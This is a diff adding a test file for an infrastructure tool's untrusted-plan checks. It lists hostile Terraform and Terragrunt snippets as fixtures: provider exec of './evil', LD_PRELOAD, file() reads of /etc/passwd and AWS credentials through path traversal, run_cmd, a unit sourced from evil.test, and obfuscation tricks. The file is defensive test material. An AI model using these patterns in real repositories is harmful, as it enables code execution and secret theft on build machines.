@@ -1,0 +1,299 @@
+"""Pull requests that try to run code in a plan, or to read this machine by it: none gets through
+`--untrusted`, whether it brings the code or only steers what stands there.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+import pytest
+
+from infra.region import Region
+from trunkline.core.infra.code import brought, standing
+from trunkline.core.infra.discover import discover_units
+from trunkline.core.infra.reading import Files
+from trunkline.core.snapshot import FilesSnapshot
+
+DEEP = "/".join("abcdefgh")
+
+# What a change adds to a repository without any of it; the file, its text, what is told of it.
+BROUGHT: dict[str, tuple[str, str, str]] = {
+    "a credential helper of a provider": (
+        "a/x.tf",
+        'provider "kubernetes" {\n  exec { command = "./evil" }\n}',
+        "exec of provider kubernetes",
+    ),
+    "a profile that names a process": (
+        "a/x.tf",
+        'provider "aws" { shared_config_files = ["./aws.cfg"] }',
+        "configuration of provider aws",
+    ),
+    "a library that is loaded first": (
+        "a/x.hcl",
+        'terraform {\n  extra_arguments "x" {\n    env_vars = { LD_PRELOAD = "./x.so" }\n  }\n}',
+        "extra_arguments x",
+    ),
+    "keys of a state from a program": (
+        "a/x.tf",
+        'terraform {\n  encryption {\n    key_provider "external" "x" { command = [] }\n  }\n}',
+        "encryption",
+    ),
+    "a chart that is rendered by a program": (
+        "a/x.tf",
+        'resource "helm_release" "x" {\n  postrender { binary_path = "./evil" }\n}',
+        "postrender",
+    ),
+    "the same, put together": (
+        "a/x.tf",
+        'resource "helm_release" "x" {\n  dynamic "postrender" {\n    for_each = [1]\n  }\n}',
+        "dynamic postrender",
+    ),
+    "a state of somebody else": (
+        "a/x.tf",
+        'data "terraform_remote_state" "x" { backend = "local" }',
+        "data terraform_remote_state x",
+    ),
+    "a file, as data": ("a/x.tf", 'data "local_file" "x" { filename = "/x" }', "data local_file x"),
+    "an escaped name": ("a/x.tf", 'data "ext\\u0065rnal" "x" { a = ["id"] }', "data external x"),
+    "another backend": ("a/x.tf", 'terraform {\n  backend "http" {}\n}', "backend http"),
+    "outputs of another unit": ("a/x.hcl", 'dependency "x" { path = "../x" }', "dependency x"),
+    "a variable of the machine": ("a/x.hcl", 'inputs = { x = get_env("HTTPS_PROXY") }', "get_env"),
+    "a mask that is taken off": (
+        "a/x.tf",
+        'output "x" { value = nonsensitive(random_password.x.result) }',
+        "nonsensitive",
+    ),
+    "a template in a value": (
+        "a/x.tf",
+        'output "x" { value = templatestring(local.x, {}) }',
+        "function templatestring",
+    ),
+    "a function of a provider": (
+        "a/x.tf",
+        'output "x" { value = provider::shell::run("id") }',
+        "function provider::shell::run",
+    ),
+    "a comment before the bracket": (
+        "a/x.tf",
+        'output "x" { value = file/* */("/etc/passwd") }',
+        "file of a file elsewhere",
+    ),
+    "up from a parent that lies high": (
+        f"{DEEP}/x.hcl",
+        'inputs = { x = file("${find_in_parent_folders("root.hcl")}/../../../../etc/passwd") }',
+        "file of a file elsewhere",
+    ),
+    "up from a root module that lies high": (
+        f"{DEEP}/x.tf",
+        'output "x" { value = file("${path.root}/../../../etc/passwd") }',
+        "file of a file elsewhere",
+    ),
+    "up from where a module is copied to": (
+        f"{DEEP}/x.tf",
+        'output "x" { value = file("${path.module}/../../../etc/passwd") }',
+        "file of a file elsewhere",
+    ),
+    "a file of the user's, found by its name": (
+        "a/x.hcl",
+        'inputs = { x = file(find_in_parent_folders(".netrc")) }',
+        "file of a file elsewhere",
+    ),
+    "code in a file of another name": (
+        "a/x.hcl",
+        'locals { x = read_terragrunt_config("notes.txt") }',
+        "read_terragrunt_config of another file",
+    ),
+    "an include of another name": (
+        "a/x.hcl",
+        'include "x" { path = "notes.txt" }',
+        "include x of another file",
+    ),
+    "a template that reads files": (
+        "a/x.tpl",
+        'x: ${file("/root/.aws/credentials")}',
+        "a template that reads files",
+    ),
+    "a unit of a stack from elsewhere": (
+        "a/terragrunt.stack.hcl",
+        'unit "x" {\n  source = "git::https://evil.test/x"\n  path = "x"\n}',
+        "unit x from elsewhere",
+    ),
+    "a unit of a stack in the user's home": (
+        "a/terragrunt.stack.hcl",
+        'unit "x" {\n  source = "../x"\n  path = "../../../../root/x"\n}',
+        "unit x made elsewhere",
+    ),
+    "generated code, as a value": ("a/x.hcl", 'generate = { x = { path = "x.tf" } }', "generate"),
+    "where it is downloaded to": ("a/x.hcl", 'download_dir = "/root/.ssh"', "download_dir"),
+    "Terragrunt as JSON": ("a/terragrunt.hcl.json", "{}", "it is code that is not read here"),
+    "what is not known yet": ("a/x.tf", 'action "run_it" "x" {}', "action run_it x"),
+    "what only looks like text": (
+        "a/x.tf",
+        '# <<EOT\ny = 1 /* provisioner "local-exec" {} */\n',
+        "the word provisioner",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BROUGHT)
+def test_what_a_change_brings_is_seen(name: str) -> None:
+    path, text, what = BROUGHT[name]
+    before, after = Files(FilesSnapshot({})), Files(FilesSnapshot({path: text}))
+    told = [one.what for one in brought(before, after, [path])]
+    assert any(one.startswith(what) for one in told), told
+
+
+HIDDEN = {
+    "by ends of line": ("x = <<EOT\r\na\r\nEOT\r\n", "y = <<EOT\nEOT\n"),
+    "by a space of another kind": ("x = <<EOT\na\n\x0bEOT\xa0\n", "y = <<EOT\nEOT\n"),
+    "by a text within a text": ("x = <<EOT\n${<<IN\nEOT\n/*\nIN\n}\nEOT\n", "# */\n"),
+    "by an escaped opening": ("x = <<EOT\n$${\nEOT\n", "# }\n"),
+}
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_no_text_hides_code_that_the_programs_see(name: str) -> None:
+    before, behind = HIDDEN[name]
+    text = f'{before}data "external" "x" {{}}\n{behind}'
+    (found,) = brought(Files(FilesSnapshot({})), Files(FilesSnapshot({"x.tf": text})), ["x.tf"])
+    assert (found.what, found.line) == ("data external x", before.count("\n") + 1)
+
+
+def test_providers_that_are_unpinned_are_told() -> None:
+    lock = "a/.terraform.lock.hcl"
+    (found,) = brought(Files(FilesSnapshot({lock: ""})), Files(FilesSnapshot({})), [lock])
+    assert found.what == "it unpins providers"
+
+
+PROVIDER = 'terraform {\n  backend "s3" {}\n}\nprovider "aws" { region = var.region }\n'
+ROOT = 'generate "x" {\n  path = "x.tf"\n  contents = "region = ${local.region}"\n}\n'
+UNIT = 'include "root" { path = find_in_parent_folders("root.hcl") }\nterraform { source = "../m" }'
+DEPENDS = 'terraform { source = "../m" }\ndependency "b" { config_path = "../b" }'
+
+# Repositories in which a value, or a file of another kind, decides what stands in a unit's code.
+STEERED: dict[str, tuple[Mapping[str, str], str]] = {
+    "a script that a data source runs": (
+        {"a/x.tf": f'{PROVIDER}data "external" "x" {{ program = ["./x.sh"] }}', "a/x.sh": "id"},
+        "data external x",
+    ),
+    "a value in generated code": (
+        {"root.hcl": ROOT, "a/terragrunt.hcl": UNIT, "m/x.tf": ""},
+        "generate x",
+    ),
+    "a script of a hook": (
+        {
+            "root.hcl": 'terraform {\n  before_hook "x" { execute = ["./x.sh"] }\n}',
+            "a/terragrunt.hcl": UNIT,
+            "m/x.tf": "",
+        },
+        "before_hook x",
+    ),
+    "a value that a module from elsewhere gets": (
+        {"a/x.tf": f'{PROVIDER}module "x" {{\n  source = "acme/x/aws"\n  name = var.name\n}}'},
+        "module x from elsewhere",
+    ),
+    "a name that chooses a file": (
+        {"a/x.tf": f'{PROVIDER}locals {{ x = file("${{path.module}}/${{var.name}}.json") }}'},
+        "file of a file elsewhere",
+    ),
+    "a command of the unit whose outputs it reads": (
+        {
+            "a/terragrunt.hcl": DEPENDS,
+            "b/terragrunt.hcl": 'locals { x = run_cmd("./x.sh") }\nterraform { source = "../m" }',
+            "m/x.tf": "",
+        },
+        "run_cmd",
+    ),
+    "a configuration of a provider that lies in the repository": (
+        {"a/x.tf": f'{PROVIDER}provider "aws" {{ shared_config_files = ["./x.cfg"] }}'},
+        "configuration of provider aws",
+    ),
+    "an inner stack": (
+        {
+            "a/terragrunt.stack.hcl": 'unit "x" {\n  source = "../u"\n  path = "x"\n}',
+            "a/deep/terragrunt.stack.hcl": 'locals { x = run_cmd("id") }',
+            "u/terragrunt.hcl": 'terraform { source = "../m" }',
+            "m/x.tf": "",
+        },
+        "run_cmd",
+    ),
+}
+
+# Repositories of which forks may well change values.
+FREE: dict[str, Mapping[str, str]] = {
+    "a plain module": {
+        "a/x.tf": PROVIDER + 'module "x" { source = "../m" }\ndata "aws_ami" "x" { id = var.y }',
+        "m/x.tf": 'resource "aws_vpc" "x" { tags = { x = jsonencode(var.x) } }',
+    },
+    "a unit with a parent": {
+        "root.hcl": 'remote_state {\n  backend = "s3"\n'
+        "  config = { key = path_relative_to_include() }\n}\n"
+        'terraform {\n  extra_arguments "x" {\n'
+        "    commands = get_terraform_commands_that_need_locking()\n"
+        '    arguments = ["-lock-timeout=20m"]\n  }\n}\n',
+        "a/terragrunt.hcl": UNIT,
+        "m/x.tf": "",
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", STEERED)
+def test_what_a_change_could_steer_is_seen(name: str) -> None:
+    tree, what = STEERED[name]
+    files = Files(FilesSnapshot(tree))
+    units = discover_units(files)
+    told = [one.what for one in standing(files, units, units.units[0])]
+    assert what in told
+
+
+@pytest.mark.parametrize("name", FREE)
+def test_values_are_free_where_they_steer_nothing(name: str) -> None:
+    files = Files(FilesSnapshot(FREE[name]))
+    units = discover_units(files)
+    assert [standing(files, units, one) for one in units.units] == [[]]
+
+
+SETTINGS = "infra: {untrusted: vetted}\n"
+
+
+async def begun(region: Region, files: Mapping[str, str]) -> Region:
+    await region.begin(plain=True)
+    region.repo.write({"trunkline.yaml": SETTINGS, **files}).commit()
+    return region
+
+
+async def error_of(region: Region, *, trusted: bool = False) -> str:
+    async with await region.app() as app:
+        (plain,) = (await app.plan_infra("HEAD~1", "HEAD", keep=False, trusted=trusted)).units
+    return plain.error
+
+
+async def test_a_script_that_stands_there_is_not_run_as_it_is_changed(region: Region) -> None:
+    mark = region.states.parent / "ran"
+    data = 'data "external" "x" {\n  program = ["sh", "${path.module}/x.sh"]\n}\n'
+    await begun(region, {"plain/data.tf": data, "plain/x.sh": "echo {}"})
+    region.repo.write({"plain/x.sh": f"touch {mark}; echo {{}}"}).commit()
+    told = await error_of(region)
+    assert told == (
+        "a change from outside could steer what its plan runs: data external x (plain/data.tf:1)"
+    )
+    assert not mark.exists()
+
+
+async def test_a_link_leads_nowhere(region: Region) -> None:
+    await begun(region, {})
+    secret = region.states.parent / "secret"
+    secret.write_text("hunter22-of-the-machine")
+    (region.repo.path / "plain/x.json").symlink_to(secret)
+    region.repo.write({"plain/more.tf": 'output "x" { value = file("${path.module}/x.json") }'})
+    region.repo.commit()
+    assert "a link (plain/x.json:1)" in await error_of(region)
+
+
+async def test_code_behind_a_link_is_seen(region: Region) -> None:
+    await begun(region, {"docs/m/main.tf": "# nothing"})
+    (region.repo.path / "plain/m").symlink_to("../docs/m")
+    region.repo.write({"plain/more.tf": 'module "m" { source = "./m" }'}).commit()
+    region.repo.write({"docs/m/main.tf": 'data "external" "x" { program = ["id"] }'})
+    region.repo.write({"plain/more.tf": '# again\nmodule "m" { source = "./m" }'}).commit()
+    assert "a link (plain/m:1)" in await error_of(region)
